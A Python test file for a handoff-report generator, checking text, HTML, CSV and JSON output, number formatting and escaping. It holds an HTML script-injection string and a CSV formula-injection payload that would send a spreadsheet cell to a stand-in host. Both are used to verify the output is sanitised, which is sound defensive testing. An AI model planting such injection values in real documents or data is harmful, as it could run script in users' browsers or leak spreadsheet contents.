"""What a person or a program sees of the figures."""

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest

from actions.human_handoff.handoff_events import vocabulary
from actions.human_handoff.handoff_events.vocabulary import Outcome, Step
from actions.human_handoff.handoff_report import labels, plots
from actions.human_handoff.handoff_report.data_formats import csv_report, json_report
from actions.human_handoff.handoff_report.groups import By
from actions.human_handoff.handoff_report.page import html_report
from actions.human_handoff.handoff_report.request_record import Result
from actions.human_handoff.handoff_report.text_report import text_report
from actions.human_handoff.shift import ShiftStatus
from tests.unit.handoff_report.made_events import event, made_events
from tests.unit.handoff_report.reports import document_of, lines

EMPTY = document_of([])
FULL = document_of([*lines(made_events(600, days=21)), "{"], By.SKILL, since=1.0)
DESK = '<script>alert("1")</script>[bold]&'
ODD = document_of(
    lines(
        [
            event(Step.REQUESTED, desk=DESK),
            event(Step.ATTEMPTED, 5, desk=DESK, outcome=Outcome.REFUSED),
            event(Step.FAILED_LATER, 9, "lost"),
        ]
        * 2
    ),
    By.DESK,
)


class Page(HTMLParser):
    """Checks that every element is closed, and keeps what the page has."""

    def __init__(self, text):
        super().__init__()
        self.open, self.tags, self.addresses, self.texts = [], set(), [], []
        self.feed(text)
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.addresses += [value for name, value in attrs if name in {"src", "href"}]
        if tag not in {"meta"}:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.tags.add(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.texts.append(data)


@pytest.mark.parametrize(
    ("words", "names"),
    [
        (vocabulary.RequestReason, labels.REASONS),
        (vocabulary.Outcome, labels.OUTCOMES),
        (vocabulary.Ending, labels.ENDINGS),
        (vocabulary.Because, labels.BECAUSE),
        (ShiftStatus, labels.ANSWERS),
        (Result, labels.RESULTS),
        (By, labels.GROUPS),
    ],
)
def test_every_word_has_a_plain_one_for_people(words, names):
    assert set(names) - {"not_told"} == {word.value for word in words}


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, "–"), (0.0, "0 %"), (0.0004, "< 0.1 %"), (0.5, "50.0 %"), (0.9995, "> 99.9 %"),
        (1.0, "100 %"),
    ],
)  # fmt: skip
def test_a_share_is_never_rounded_to_none_or_all(value, text):
    assert labels.share(value) == text


@pytest.mark.parametrize(
    ("seconds", "text"),
    [
        (None, "–"), (4.23, "4.2 s"), (9.97, "10 s"), (59.7, "1 min 0 s"), (125, "2 min 5 s"),
        (3780, "1 h 3 min"),
    ],
)  # fmt: skip
def test_a_time_has_units(seconds, text):
    assert labels.duration(seconds) == text


@pytest.mark.parametrize(
    ("largest", "step"), [(0, 1), (5, 1), (6, 2), (11, 5), (505, 200), (50_000, 10_000)]
)
def test_an_axis_has_round_numbers(largest, step):
    assert plots._step(largest) == step


def test_the_text_has_the_figures_and_what_they_were_made_from():
    text = text_report(FULL, is_coloured=False)

    assert re.search(r"Requests for a person +600 +2025-11-03 to 2025-11-2", text)
    assert re.search(r"^ Reached a desk +\d+ +\d+\.\d % $", text, re.M)
    assert "By skill" in text
    assert "█" in text
    assert "Entries that could not be read, so that their events are missing: 1." in text
    assert "Requests before 1970-01-01T00:00:01+00:00 are left out." in text
    assert max(map(len, text.splitlines())) <= 110
    assert "\x1b" not in text


def test_a_terminal_gets_bold_titles_in_its_own_width():
    text = text_report(FULL, 80, is_coloured=True)

    assert "\x1b[1m" in text
    assert max(len(re.sub(r"\x1b\[\d+m", "", line)) for line in text.splitlines()) <= 80


def test_a_text_without_requests_says_so():
    text = text_report(EMPTY, is_coloured=False)

    assert text.count("\nnone\n") == 9
    assert re.search("Typical wait +–   no desk has accepted a request", text)
    assert "Made from 0 handoff events." in text
    page = html_report(EMPTY)
    assert "There were no requests." in page
    assert "There were none." in page


def test_one_request_is_one_in_every_sentence():
    one = document_of(lines([event(Step.REQUESTED, outcome=Outcome.OFF_SHIFT)]))
    text, page = text_report(one, is_coloured=False), html_report(one)

    assert re.search("Requests for a person +1   2025-11-03\n", text)
    assert re.search("Nobody on shift +100 %   1 of 1 request: outside the shifts", text)
    assert "The darkest hour has 1 request." in text
    assert "Made from 1 handoff event." in text
    assert ">3 November 2025<" in page
    assert "The strongest colour is 1 request in one hour" in page
    assert "Mon 9:00–10:00: 1 request<" in page
    assert not re.search(r"\b1 (requests|promises|handoff events)\b", text + page)


def test_every_share_in_the_headline_says_of_how_many_requests_it_is_one():
    accepted, refused = (
        [event(Step.REQUESTED, 0, name), event(Step.ATTEMPTED, 9, name, outcome=outcome)]
        for name, outcome in (("a", Outcome.ACCEPTED), ("b", Outcome.UNCONFIRMED))
    )
    others = [event(Step.REQUESTED, 0, name, outcome=Outcome.OFF_SHIFT) for name in "cd"]
    left = event(Step.REQUESTED, 0, "e")
    document = document_of(lines([*accepted, *refused, *others, left]))
    text = text_report(document, is_coloured=False)

    for figure in (
        "Reached a desk +20.0 %   1 of 5 requests; of those during a shift 33.3 %",
        "Within 3 minutes +33.3 %   1 of 3 during a shift: a desk has accepted",
        "Nobody on shift +40.0 %   2 of 5 requests: outside the shifts",
        "Abandoned +33.3 %   1 of 3 during a shift: the customer left before a desk was asked",
        "Transfer failed +33.3 %   1 of 3 during a shift: no desk confirmed that it has the cust",
    ):
        assert re.search(f"^{figure}", text, re.MULTILINE), figure
    assert re.search("^ Result +Requests +of all requests", text, re.MULTILINE)
    assert re.search("^ Transfer failed, or not confirmed +1 +20.0 %", text, re.MULTILINE)
    assert re.search("^ Ending +Requests +of those that reached a desk", text, re.MULTILINE)
    assert "1 of 3 during a shift: the customer left" in html_report(document)


def test_names_are_shown_as_they_are():
    assert DESK in text_report(ODD, 200, is_coloured=False)
    assert DESK in Page(html_report(ODD)).texts


def test_json_is_the_document():
    assert json.loads(json_report(FULL)) == FULL


def test_csv_has_every_figure_of_every_group_once():
    rows = list(csv.DictReader(io.StringIO(csv_report(FULL))))
    found = {(row["group"], row["figure"]): row["value"] for row in rows}

    assert len(found) == len(rows)
    assert found["", "requests"] == "600"
    for name in {*FULL} - {"all", "by", "groups"}:
        assert found["", name] == str(FULL[name])
    assert (found["", "time_zone"], found["", "damaged_events"]) == ("UTC", "1")
    assert found["orders", "results/reached"] == str(FULL["groups"]["orders"]["results"]["reached"])
    assert found["", "off_shift_by_weekday_and_hour/5/12"] == str(
        FULL["all"]["off_shift_by_weekday_and_hour"][5][12]
    )
    assert {row["by"] for row in rows if row["group"]} == {"skill"}


@pytest.mark.parametrize("sign", "=+-@\t\r")
def test_csv_has_no_formula_and_numbers_stay_numbers(sign):
    name = f'{sign}HYPERLINK("http://example.test/?"&A1;"1,2")'
    document = FULL | {"groups": {name: FULL["groups"]["orders"], "a=b": EMPTY["all"]}}
    rows = list(csv.reader(io.StringIO(csv_report(document), newline="")))[1:]

    assert {row[1] for row in rows} == {"", f"'{name}", "a=b"}
    assert not [cell for row in rows for cell in row if cell.startswith(tuple("=+-@\t\r"))]
    told = {FULL[name] for name in ("time_zone", "since", "first_request", "last_request")}
    assert told < {row[3] for row in rows}
    assert all(row[3] in {"", *told} or float(row[3]) >= 0 for row in rows)


@pytest.mark.parametrize("document", [FULL, EMPTY, ODD], ids=["full", "empty", "odd names"])
def test_the_page_is_one_file_without_a_script_or_an_address(document):
    text = html_report(document)
    page = Page(text)

    assert page.tags & {"script", "link", "img", "iframe", "object", "base"} == set()
    assert page.addresses == []
    assert "url(" not in text
    assert "http" not in text
    assert "prefers-color-scheme: dark" in text


def test_the_page_has_the_headline_the_plots_and_the_tables():
    text = html_report(FULL)

    assert text.count('<svg viewBox="0 0 980') == 4
    assert ">3 November 2025 to 23 November 2025<" in text
    assert 'class="figure alarm"' not in html_report(ODD)
    assert "<h2>By skill</h2>" in text
    assert "Mon 0:00–1:00: " in text


def test_an_untrue_promise_is_shown_in_another_colour():
    events = [event(Step.REQUESTED), event(Step.ATTEMPTED, 5, outcome=Outcome.ACCEPTED)]
    events.append(event(Step.FAILED_LATER, 9, outcome=Outcome.FAILED_LATER))

    assert 'class="figure alarm"' in html_report(document_of(lines(events)))


def test_a_long_time_is_shown_by_weeks():
    text = html_report(document_of(lines(made_events(300, days=90))))

    assert "Each column is a week; it begins on a Monday." in text
    assert ">3 Nov<" in text
